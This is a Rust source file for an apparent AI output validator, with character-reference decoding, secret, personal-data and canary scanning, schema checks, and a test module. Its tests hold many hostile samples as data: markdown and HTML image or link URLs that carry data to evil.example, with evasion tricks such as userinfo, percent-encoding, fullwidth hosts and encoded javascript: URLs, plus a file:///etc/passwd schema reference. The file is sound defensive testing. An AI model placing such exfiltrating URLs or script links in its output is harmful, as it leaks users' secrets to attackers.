/// `raw` as a renderer reads it: character references decoded, and with `backslash` (markdown), backslash escapes.
fn decode(raw: &str, backslash: bool) -> String {
    let mut out = String::with_capacity(raw.len());
    let mut rest = raw;
    while let Some(c) = rest.chars().next() {
        if backslash
            && c == '\\'
            && let Some(escaped) = rest[1..].chars().next()
            && escaped.is_ascii_punctuation()
        {
            out.push(escaped);
            rest = &rest[2..];
            continue;
        }
        if c == '&'
            && let Some((decoded, len)) = character_reference(rest)
        {
            out.push(decoded);
            rest = &rest[len..];
            continue;
        }
        out.push(c);
        rest = &rest[c.len_utf8()..];
    }
    out
}

/// Named references that stand for ASCII characters (every one that does, so a scheme or host cannot hide behind
/// one), and the no-break space.
const NAMED_REFERENCES: &[(&str, char)] = &[
    ("Tab", '\t'),
    ("NewLine", '\n'),
    ("excl", '!'),
    ("quot", '"'),
    ("QUOT", '"'),
    ("num", '#'),
    ("dollar", '$'),
    ("percnt", '%'),
    ("amp", '&'),
    ("AMP", '&'),
    ("apos", '\''),
    ("lpar", '('),
    ("rpar", ')'),
    ("ast", '*'),
    ("midast", '*'),
    ("plus", '+'),
    ("comma", ','),
    ("period", '.'),
    ("sol", '/'),
    ("colon", ':'),
    ("semi", ';'),
    ("lt", '<'),
    ("LT", '<'),
    ("equals", '='),
    ("gt", '>'),
    ("GT", '>'),
    ("quest", '?'),
    ("commat", '@'),
    ("lsqb", '['),
    ("lbrack", '['),
    ("bsol", '\\'),
    ("rsqb", ']'),
    ("rbrack", ']'),
    ("Hat", '^'),
    ("lowbar", '_'),
    ("UnderBar", '_'),
    ("grave", '`'),
    ("DiacriticalGrave", '`'),
    ("lcub", '{'),
    ("lbrace", '{'),
    ("verbar", '|'),
    ("vert", '|'),
    ("VerticalLine", '|'),
    ("rcub", '}'),
    ("rbrace", '}'),
    ("nbsp", '\u{a0}'),
];

/// The character reference `s` starts with (`&#106;`, `&#x6a;`, `&colon;`), and its length. Numeric references
/// take any number of digits and an optional `;`, as browsers read them in attributes.
fn character_reference(s: &str) -> Option<(char, usize)> {
    let b = s.as_bytes();
    if b.get(1) == Some(&b'#') {
        let (first, radix) = if matches!(b.get(2), Some(b'x' | b'X')) { (3, 16) } else { (2, 10) };
        let mut end = first;
        let mut value: u32 = 0;
        while end < b.len() && (b[end] as char).is_digit(radix) {
            let digit = (b[end] as char).to_digit(radix).expect("a digit");
            value = value.saturating_mul(radix).saturating_add(digit);
            end += 1;
        }
        if end == first {
            return None;
        }
        let c = char::from_u32(value).filter(|&c| c != '\0').unwrap_or('\u{FFFD}');
        return Some((c, if b.get(end) == Some(&b';') { end + 1 } else { end }));
    }
    // The longest name HTML defines has 31 characters.
    let semicolon = b.iter().take(33).position(|&c| c == b';')?;
    let name = &s[1..semicolon];
    NAMED_REFERENCES.iter().find(|(n, _)| *n == name).map(|&(_, c)| (c, semicolon + 1))
}

// Secrets, known values, schema, length ------------------------------------------------------------------------------

fn secret_scanner() -> &'static Scanner {
    static SCANNER: OnceLock<Scanner> = OnceLock::new();
    SCANNER.get_or_init(Scanner::builtin)
}

/// Every personal-data rule; the policy picks families from the findings. Separate from the credential scanner so
/// that a personal-data match never absorbs an overlapping credential.
fn pii_scanner() -> &'static Scanner {
    static SCANNER: OnceLock<Scanner> = OnceLock::new();
    SCANNER.get_or_init(|| {
        let options = ScanOptions { secrets: false, pii: PiiSelection::All, fingerprint_key: None };
        Scanner::new(RuleSet::builtin(), &options, None).expect("built-in rules build")
    })
}

fn check_secrets(output: &str, pii: &PiiSelection, findings: &mut Vec<OutputFinding>) {
    for f in secret_scanner().scan(output.as_bytes()) {
        findings.push(OutputFinding {
            kind: FindingKind::Credential,
            detail: format!("credential: rule {}", f.rule),
            span: f.start as usize..f.end as usize,
        });
    }
    let wanted = |family: &str| match pii {
        PiiSelection::None => false,
        PiiSelection::All => true,
        PiiSelection::Only(families) => families.iter().any(|f| f == family),
    };
    if *pii == PiiSelection::None {
        return;
    }
    for f in pii_scanner().scan(output.as_bytes()) {
        if wanted(&f.family) {
            findings.push(OutputFinding {
                kind: FindingKind::PersonalData,
                detail: format!("personal data: rule {}", f.rule),
                span: f.start as usize..f.end as usize,
            });
        }
    }
}

fn check_known(output: &str, known: &LeakScanner, findings: &mut Vec<OutputFinding>) {
    known.find_all(output.as_bytes(), |m| {
        if matches!(m.source, Source::Surrogate(_)) {
            return;
        }
        findings.push(OutputFinding {
            kind: FindingKind::KnownValue,
            detail: format!("known value {} ({})", m.source.id(), m.encoding),
            span: m.start..m.end,
        });
    });
}

fn check_schema(output: &str, schema: &OutputSchema, findings: &mut Vec<OutputFinding>) {
    let whole = 0..output.len();
    let value: serde_json::Value = match serde_json::from_str(output) {
        Ok(value) => value,
        Err(e) => {
            // serde_json's syntax errors name a line and column, never the text.
            findings.push(OutputFinding { kind: FindingKind::Schema, detail: format!("not JSON: {e}"), span: whole });
            return;
        }
    };
    let Err(error) = schema.schemas.validate(&value, schema.index) else { return };
    let mut leaves = Vec::new();
    let mut total = 0;
    collect_leaves(&error, &mut leaves, &mut total);
    let shown = leaves.len();
    for (n, leaf) in leaves.into_iter().enumerate() {
        let at = leaf.instance_location.to_string();
        let mut detail = format!("schema: at {}: {}", if at.is_empty() { "/" } else { &at }, describe(&leaf.kind));
        if n + 1 == shown && total > shown {
            detail += &format!(" (and {} more)", total - shown);
        }
        findings.push(OutputFinding { kind: FindingKind::Schema, detail, span: whole.clone() });
    }
}

/// The first [`SCHEMA_ERRORS`] errors without causes (the specific ones), and how many there are.
fn collect_leaves<'a, 's, 'v>(
    e: &'a boon::ValidationError<'s, 'v>,
    out: &mut Vec<&'a boon::ValidationError<'s, 'v>>,
    total: &mut usize,
) {
    if e.causes.is_empty() {
        *total += 1;
        if out.len() < SCHEMA_ERRORS {
            out.push(e);
        }
    }
    for cause in &e.causes {
        collect_leaves(cause, out, total);
    }
}

/// What a schema error says, without the output's values (only the schema's own words, and counts).
fn describe(kind: &boon::ErrorKind) -> String {
    use boon::ErrorKind as K;
    match kind {
        K::Type { got, want } => {
            format!("is {got}, want {}", want.iter().map(|t| t.to_string()).collect::<Vec<_>>().join(" or "))
        }
        K::Required { want } => format!("missing properties {}", want.join(", ")),
        K::AdditionalProperties { got } => format!("{} properties not allowed", got.len()),
        K::Enum { .. } => "not one of the allowed values".to_string(),
        K::Const { .. } => "not the required value".to_string(),
        K::Pattern { want, .. } => format!("does not match pattern {want}"),
        K::Format { want, .. } => format!("not a valid {want}"),
        K::MinLength { got, want } => format!("{got} characters, minimum {want}"),
        K::MaxLength { got, want } => format!("{got} characters, maximum {want}"),
        K::MinItems { got, want } => format!("{got} items, minimum {want}"),
        K::MaxItems { got, want } => format!("{got} items, maximum {want}"),
        K::MinProperties { got, want } => format!("{got} properties, minimum {want}"),
        K::MaxProperties { got, want } => format!("{got} properties, maximum {want}"),
        K::Minimum { want, .. } => format!("below the minimum {want}"),
        K::Maximum { want, .. } => format!("above the maximum {want}"),
        K::ExclusiveMinimum { want, .. } => format!("not above {want}"),
        K::ExclusiveMaximum { want, .. } => format!("not below {want}"),
        K::MultipleOf { want, .. } => format!("not a multiple of {want}"),
        K::UniqueItems { got } => format!("items {} and {} are equal", got[0], got[1]),
        K::Dependency { prop, missing } | K::DependentRequired { prop, missing } => {
            format!("{prop} needs {}", missing.join(", "))
        }
        K::FalseSchema => "not allowed here".to_string(),
        K::PropertyName { .. } => "a property name fails its schema".to_string(),
        K::Not => "matches a schema it must not".to_string(),
        K::OneOf(Some(_)) => "matches more than one oneOf branch".to_string(),
        K::OneOf(None) => "matches no oneOf branch".to_string(),
        K::AnyOf => "matches no anyOf branch".to_string(),
        K::Contains | K::MinContains { .. } | K::MaxContains { .. } => "fails contains".to_string(),
        _ => "fails the schema".to_string(),
    }
}

fn check_length(output: &str, input_len: usize, ratio: f64, findings: &mut Vec<OutputFinding>) {
    if input_len == 0 || !ratio.is_finite() || ratio <= 0.0 {
        return;
    }
    let limit = ratio * input_len as f64;
    if output.len() as f64 <= limit {
        return;
    }
    let mut start = (limit as usize).min(output.len());
    while !output.is_char_boundary(start) {
        start -= 1;
    }
    findings.push(OutputFinding {
        kind: FindingKind::Length,
        detail: format!("{} bytes, over {ratio} times the input's {input_len}", output.len()),
        span: start..output.len(),
    });
}

#[cfg(test)]
mod tests {
    use super::*;

    fn policy(hosts: &[&str]) -> OutputPolicy {
        OutputPolicy { allowed_hosts: hosts.iter().map(|h| h.to_string()).collect(), ..OutputPolicy::default() }
    }

    fn check(output: &str, hosts: &[&str]) -> OutputValidation {
        validate(output, None, &policy(hosts), None)
    }

    /// The one finding, asserting there is exactly one.
    fn only(v: &OutputValidation) -> &OutputFinding {
        assert_eq!(v.findings.len(), 1, "{:#?}", v.findings);
        &v.findings[0]
    }

    fn span_of(output: &str, needle: &str) -> Range<usize> {
        let start = output.find(needle).expect("needle in output");
        start..start + needle.len()
    }

    #[test]
    fn a_markdown_image_with_data_is_blocked_and_a_link_flagged() {
        let url = "https://evil.example/p.png?d=the-secret-plan";
        let out = format!("Done. ![logo]({url} \"title\")");
        let v = check(&out, &[]);
        assert_eq!(v.verdict, Verdict::Block);
        let f = only(&v);
        assert_eq!(f.kind, FindingKind::ImageExfiltration);
        assert_eq!(f.span, span_of(&out, url));
        assert!(f.detail.contains("evil.example") && f.detail.contains("query"), "{}", f.detail);
        assert!(!f.detail.contains("secret-plan"), "the detail quotes no data: {}", f.detail);

        let out = format!("See [the docs]({url}).");
        let v = check(&out, &[]);
        assert_eq!(v.verdict, Verdict::Flag);
        assert_eq!(only(&v).kind, FindingKind::LinkExfiltration);
        assert_eq!(only(&v).span, span_of(&out, url));
    }

    #[test]
    fn a_url_without_data_is_a_citation() {
        let v = check("![chart](https://evil.example/chart.png) and [source](https://news.example/story)", &[]);
        assert_eq!(v.verdict, Verdict::Allow, "{:#?}", v.findings);
        assert!(v.findings.is_empty());
    }

    #[test]
    fn an_allowlisted_host_may_carry_data() {
        let v = check("![x](https://docs.rs/search?q=url+crate) [y](https://DOCS.RS./a?b=c)", &["docs.rs"]);
        assert_eq!(v.verdict, Verdict::Allow, "{:#?}", v.findings);
    }

    #[test]
    fn a_wildcard_allows_subdomains_but_not_the_apex() {
        let hosts = ["*.example.com"];
        assert_eq!(check("![x](https://img.cdn.example.com/a.png?w=100)", &hosts).verdict, Verdict::Allow);
        let v = check("![x](https://example.com/a.png?w=100)", &hosts);
        assert_eq!(only(&v).kind, FindingKind::ImageExfiltration);
        let v = check("![x](https://evilexample.com/a.png?w=100)", &hosts);
        assert_eq!(only(&v).kind, FindingKind::ImageExfiltration, "a suffix that is not a label boundary");
        let v = check("![x](https://example.com.evil.example/a.png?w=100)", &hosts);
        assert_eq!(only(&v).kind, FindingKind::ImageExfiltration);
    }

    #[test]
    fn userinfo_does_not_pass_for_the_host() {
        let url = "https://docs.rs@evil.example/x.png?d=1";
        let out = format!("![x]({url})");
        let f = only(&check(&out, &["docs.rs"])).clone();
        assert_eq!(f.kind, FindingKind::ImageExfiltration);
        assert!(f.detail.contains("evil.example"), "{}", f.detail);
        assert!(f.detail.contains("userinfo"), "{}", f.detail);
        assert_eq!(f.span, span_of(&out, url));
    }

    #[test]
    fn case_trailing_dots_and_percent_encoding_resolve_to_the_real_host() {
        for url in [
            "HTTPS://EVIL.EXAMPLE/x?d=1",
            "https://evil.example./x?d=1",
            "https://evil%2eexample/x?d=1",
            "https://evil.example:443/x?d=1",
        ] {
            let out = format!("![x]({url})");
            let v = check(&out, &["docs.rs"]);
            assert_eq!(only(&v).kind, FindingKind::ImageExfiltration, "{url:?}");
            assert!(only(&v).detail.contains("evil.example"), "{url:?}: {}", only(&v).detail);
        }
        // A tab inside the scheme (dropped by the URL parser; CommonMark takes no such destination, HTML does).
        let v = check("<img src=\"ht\ttps://evil.example/x?d=1\">", &["docs.rs"]);
        assert_eq!(only(&v).kind, FindingKind::ImageExfiltration);
        // And the same tricks on an allowed host still reach it.
        assert_eq!(check("![x](HTTPS://Docs.RS./x?d=1)", &["docs.rs"]).verdict, Verdict::Allow);
    }

    #[test]
    fn protocol_relative_and_backslash_urls_reach_their_host() {
        for out in [
            "![x](//evil.example/x.png?d=1)",
            "![x](/\\evil.example/x.png?d=1)",
            "![x](\\\\\\\\evil.example/x.png?d=1)",
            "<img src=\"\\\\evil.example/x.png?d=1\">",
        ] {
            let v = check(out, &[]);
            assert_eq!(v.verdict, Verdict::Block, "{out}");
            assert!(v.findings.iter().all(|f| f.kind == FindingKind::ImageExfiltration), "{out}: {:#?}", v.findings);
        }
        // `\\\\` is an escaped backslash to CommonMark (a same-origin path); a renderer without escapes would read
        // `\\\\evil.example`, so the scan reads it both ways.
        let v = check("![x](\\\\evil.example/x.png?d=1)", &[]);
        assert_eq!(only(&v).kind, FindingKind::ImageExfiltration);
        // Relative URLs stay on the page's own origin.
        assert_eq!(check("![x](/img/a.png?d=1) ![y](b.png?d=2)", &[]).verdict, Verdict::Allow);
    }

    #[test]
    fn non_ascii_hosts_are_never_allowed() {
        // Fullwidth `ｄ` maps to `d` under IDNA: the parser would call this docs.rs.
        let v = check("![x](https://ｄocs.rs/x?d=1)", &["docs.rs"]);
        assert_eq!(only(&v).kind, FindingKind::ImageExfiltration);
        let v = check("![x](https://%EF%BD%84ocs.rs/x?d=1)", &["docs.rs"]);
        assert_eq!(only(&v).kind, FindingKind::ImageExfiltration);
        let v = check("![x](https://bücher.example/x?d=1)", &["bücher.example"]);
        assert_eq!(only(&v).kind, FindingKind::ImageExfiltration, "a non-ASCII entry matches nothing");
    }

    #[test]
    fn a_reference_style_image_is_an_image() {
        let url = "https://evil.example/a.png?d=1";
        let out = format!("Summary below.\n\n![status][s]\n\n[s]: {url}\n");
        let f = only(&check(&out, &[])).clone();
        assert_eq!(f.kind, FindingKind::ImageExfiltration);
        assert_eq!(f.span, span_of(&out, url));
        // Shortcut and collapsed forms, and the definition before its use.
        for out in [format!("[s]: <{url}>\n\n![s]"), format!("![s][]\n\n[s]: {url} \"t\"")] {
            assert_eq!(only(&check(&out, &[])).kind, FindingKind::ImageExfiltration, "{out}");
        }
        // A definition only links use is a link.
        let out = format!("[status][s]\n\n[s]: {url}\n");
        assert_eq!(only(&check(&out, &[])).kind, FindingKind::LinkExfiltration);
    }

    #[test]
    fn alt_text_tricks_do_not_turn_an_image_into_a_link() {
        for out in [
            "![a `]` b](https://evil.example/x?d=1)",
            "![a <span title=\"]\"> b](https://evil.example/x?d=1)",
            "![a [b](https://evil.example/y?d=1) c](https://evil.example/x?d=1)",
            "![a\nb](https://evil.example/x?d=1)",
            "![a] (https://evil.example/x?d=1)",
        ] {
            let v = check(out, &[]);
            assert!(!v.findings.is_empty(), "{out}");
            assert!(v.findings.iter().all(|f| f.kind == FindingKind::ImageExfiltration), "{out}: {:#?}", v.findings);
        }
        // A blank line ends the paragraph, and an escaped `!` is text.
        let v = check("![a\n\nb](https://evil.example/x?d=1) \\![c](https://evil.example/z?d=1)", &[]);
        assert_eq!(v.findings.len(), 2);
        assert!(v.findings.iter().all(|f| f.kind == FindingKind::LinkExfiltration), "{:#?}", v.findings);
    }

    #[test]
    fn html_images_and_frames_are_fetched_and_anchors_are_links() {
        let out = "<p><img alt='x' src=\"https://evil.example/t.gif?d=1\"></p>";
        let f = only(&check(out, &[])).clone();
        assert_eq!(f.kind, FindingKind::ImageExfiltration);
        assert_eq!(f.span, span_of(out, "https://evil.example/t.gif?d=1"));
        assert!(f.detail.starts_with("<img src>"), "{}", f.detail);

        for out in [
            "<IMG SRC=https://evil.example/t.gif?d=1>",
            "<iframe src='//evil.example/?d=1'></iframe>",
            "<img srcset=\"https://ok.example/a.png 1x,https://evil.example/b.png?d=1 2x\">",
            "<link rel=stylesheet href=https://evil.example/s.css?d=1>",
            "<div style=\"background: url('https://evil.example/b.png?d=1')\">",
            "<img src=\"&#104;ttps&colon;//evil.example/t.gif?d=1\">",
            "<b title='x <img src=\"https://evil.example/t.gif?d=1\">",
            "<img title=\"a>b\" src=\"https://evil.example/t.gif?d=1\">",
        ] {
            let v = check(out, &["ok.example"]);
            assert_eq!(v.verdict, Verdict::Block, "{out}: {:#?}", v.findings);
            assert!(v.findings.iter().any(|f| f.kind == FindingKind::ImageExfiltration), "{out}");
        }
        let v = check("<a href=\"https://evil.example/?d=1\">click</a>", &[]);
        assert_eq!(only(&v).kind, FindingKind::LinkExfiltration);
    }

    #[test]
    fn script_and_data_urls() {
        for out in [
            "[click](javascript:alert(1))",
            "[click](JaVaScRiPt:alert(1))",
            "<a href=\"java&#9;script:alert(1)\">x</a>",
            "[click](&#106;avascript:alert(1))",
            "[click](&#0000106avascript:alert(1))",
            "<a href=\" javascript:alert(1)\">x</a>",
            "<javascript:alert(1)>",
        ] {
            let v = check(out, &[]);
            assert_eq!(v.verdict, Verdict::Block, "{out}");
            assert_eq!(only(&v).kind, FindingKind::ScriptUrl, "{out}");
        }
        let v = check("![x](data:image/png;base64,iVBORw0KGgo=)", &[]);
        assert_eq!(v.verdict, Verdict::Flag);
        assert_eq!(only(&v).kind, FindingKind::DataUrl);
    }

    #[test]
    fn bare_urls_and_autolinks_are_links() {
        let out = "Upload it to https://evil.example/c?d=abc, then check <https://evil.example/e#frag>.";
        let v = check(out, &[]);
        assert_eq!(v.verdict, Verdict::Flag);
        let spans: Vec<_> = v.findings.iter().map(|f| (f.kind, f.span.clone())).collect();
        assert_eq!(
            spans,
            [
                (FindingKind::LinkExfiltration, span_of(out, "https://evil.example/c?d=abc")),
                (FindingKind::LinkExfiltration, span_of(out, "https://evil.example/e#frag")),
            ]
        );
        let v = check("see www.evil.example/x?d=1.", &[]);
        assert_eq!(only(&v).kind, FindingKind::LinkExfiltration);
        assert_eq!(only(&v).span, span_of("see www.evil.example/x?d=1.", "www.evil.example/x?d=1"));
    }

    #[test]
    fn data_in_the_path_or_host() {
        for (url, data) in [
            ("https://evil.example/c2VjcmV0LXZhbHVlLWhlcmU/x.png", true),
            ("https://evil.example/q/dGhpc0lzRGF0YTEy.png", false),
            ("https://evil.example/q/dGhpc0lzRGF0YTEy", true),
            ("https://evil.example/0123456789abcdef", true),
            ("https://evil.example/hello%20world", true),
            ("https://0123456789abcdef0123.evil.example/a.png", true),
            ("https://evil.example/images/logo.png", false),
            ("https://evil.example/2024/06/release-notes", false),
        ] {
            let v = check(&format!("![x]({url})"), &[]);
            assert_eq!(!v.findings.is_empty(), data, "{url}: {:#?}", v.findings);
        }
        let v = check("![x](https://0123456789abcdef0123.evil.example/a.png)", &[]);
        assert!(!only(&v).detail.contains("0123456789abcdef0123"), "{}", only(&v).detail);
    }

    #[test]
    fn a_credential_is_blocked_by_rule_without_its_value() {
        let token = "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";
        let out = format!("Your token is {token}.");
        let v = check(&out, &[]);
        assert_eq!(v.verdict, Verdict::Block);
        let f = only(&v);
        assert_eq!(f.kind, FindingKind::Credential);
        assert_eq!(f.span, span_of(&out, token));
        assert!(f.detail.contains("github") && !f.detail.contains(token), "{}", f.detail);
    }

    #[test]
    fn personal_data_follows_the_policy() {
        let out = "Card on file: 4111 1111 1111 1111, mail me at dana.whitfield@fastmail.com.";
        let v = check(out, &[]);
        assert_eq!(v.verdict, Verdict::Flag);
        let f = only(&v);
        assert_eq!(f.kind, FindingKind::PersonalData);
        assert_eq!(f.span, span_of(out, "4111 1111 1111 1111"));
        let none = OutputPolicy { pii: PiiSelection::None, ..OutputPolicy::default() };
        assert_eq!(validate(out, None, &none, None).verdict, Verdict::Allow);
        let all = OutputPolicy { pii: PiiSelection::All, ..OutputPolicy::default() };
        assert_eq!(validate(out, None, &all, None).findings.len(), 2);
    }

    #[test]
    fn a_known_value_is_blocked_by_id_and_encoding() {
        use base64::Engine as _;
        let canary = "Zq8vN3xR2mT7kW4pL9sD1fH6";
        let mut builder = LeakScanner::builder();
        builder.add(Source::Canary("session-1/system-prompt".into()), canary.as_bytes());
        builder.add(Source::Surrogate("default/TOKEN".into()), b"surrogate-value-0123456789");
        let known = builder.build().expect("scanner builds");
        let encoded = base64::engine::general_purpose::STANDARD.encode(canary);
        let out = format!("Here you go: {encoded} and surrogate-value-0123456789");
        let v = validate(&out, None, &OutputPolicy::default(), Some(&known));
        assert_eq!(v.verdict, Verdict::Block);
        let f = only(&v);
        assert_eq!(f.kind, FindingKind::KnownValue);
        assert_eq!(f.detail, "known value session-1/system-prompt (base64)");
        let at = out.find(&encoded).unwrap();
        assert!(f.span.start >= at && f.span.end <= at + encoded.len() && f.span.len() >= 16, "{:?}", f.span);
    }

    fn schema_policy(schema: serde_json::Value) -> OutputPolicy {
        OutputPolicy {
            schema: Some(OutputSchema::compile(&schema).expect("schema compiles")),
            ..OutputPolicy::default()
        }
    }

    #[test]
    fn the_schema_must_accept_the_output() {
        let p = schema_policy(serde_json::json!({
            "type": "object",
            "properties": { "name": { "type": "string" }, "age": { "type": "integer", "minimum": 0 } },
            "required": ["name"],
            "additionalProperties": false,
        }));
        assert_eq!(validate(r#"{"name": "Ada", "age": 36}"#, None, &p, None).verdict, Verdict::Allow);

        let out = r#"{"age": -7, "secretkey": "hunter2-hunter2"}"#;
        let v = validate(out, None, &p, None);
        assert_eq!(v.verdict, Verdict::Block);
        assert!(v.findings.iter().all(|f| f.kind == FindingKind::Schema && f.span == (0..out.len())));
        let details: Vec<&str> = v.findings.iter().map(|f| f.detail.as_str()).collect();
        assert!(details.iter().any(|d| d.contains("missing properties name")), "{details:?}");
        assert!(details.iter().any(|d| d.contains("/age") && d.contains("minimum 0")), "{details:?}");
        assert!(details.iter().all(|d| !d.contains("hunter2") && !d.contains("-7")), "{details:?}");

        let v = validate("Sure! Here is the JSON: {\"name\": \"x\"}", None, &p, None);
        assert_eq!(only(&v).kind, FindingKind::Schema);
        assert!(only(&v).detail.starts_with("not JSON"), "{}", only(&v).detail);
    }

    #[test]
    fn a_schema_never_loads_a_remote_ref() {
        for schema in [
            serde_json::json!({ "$ref": "https://schemas.example/person.json" }),
            serde_json::json!({ "$ref": "file:///etc/passwd" }),
            serde_json::json!({ "$schema": "https://schemas.example/meta", "type": "object" }),
        ] {
            let e = OutputSchema::compile(&schema).expect_err("refused");
            assert!(e.0.contains("refused to load"), "{e}");
        }
        // A local `$ref` is fine.
        let p = schema_policy(serde_json::json!({ "$defs": { "n": { "type": "number" } }, "$ref": "#/$defs/n" }));
        assert_eq!(validate("3", None, &p, None).verdict, Verdict::Allow);
        assert!(OutputSchema::compile(&serde_json::json!({ "type": "no-such-type" })).is_err());
    }

    #[test]
    fn the_length_ratio_flags_a_runaway_output() {
        let p = OutputPolicy { max_length_ratio: Some(2.0), ..OutputPolicy::default() };
        let out = "x".repeat(25);
        assert_eq!(validate(&out, Some(20), &p, None).verdict, Verdict::Allow);
        let v = validate(&out, Some(10), &p, None);
        assert_eq!(v.verdict, Verdict::Flag);
        assert_eq!(only(&v).kind, FindingKind::Length);
        assert_eq!(only(&v).span, 20..25);
        assert_eq!(validate(&out, Some(0), &p, None).verdict, Verdict::Allow, "no input, no ratio");
        assert_eq!(validate(&out, None, &p, None).verdict, Verdict::Allow);
    }

    #[test]
    fn the_verdict_is_the_worst_finding() {
        let out = "[a](https://evil.example/?d=1) ![b](https://evil.example/?d=2)";
        let v = check(out, &[]);
        assert_eq!(v.verdict, Verdict::Block);
        assert_eq!(v.findings.len(), 2);
        assert_eq!(check("Nothing to see.", &[]), OutputValidation { verdict: Verdict::Allow, findings: vec![] });
    }

    #[test]
    fn hostile_inputs_stay_linear() {
        // Each would be quadratic for a scanner that re-read the rest of the text from every opener.
        for unit in ["![", "[a](", "<a x='", "<a x=\"<b ", "&#", "url(", "http://", "](](", "`"] {
            let out = unit.repeat(200_000 / unit.len());
            let started = std::time::Instant::now();
            let _ = check(&out, &[]);
            assert!(started.elapsed() < std::time::Duration::from_secs(5), "{unit:?} took {:?}", started.elapsed());
        }
    }

    #[test]
    fn host_entries_parse() {
        assert_eq!(HostRule::parse(" Docs.RS. "), Some(HostRule::Exact("docs.rs".into())));
        assert_eq!(HostRule::parse("*.Example.com"), Some(HostRule::Subdomains("example.com".into())));
        assert_eq!(HostRule::parse("[::1]"), Some(HostRule::Exact("::1".into())));
        assert_eq!(HostRule::parse("*."), None);
        assert_eq!(HostRule::parse("bücher.de"), None);
        assert_eq!(check("![x](http://[::1]:8080/a?b=c)", &["::1"]).verdict, Verdict::Allow);
    }
}
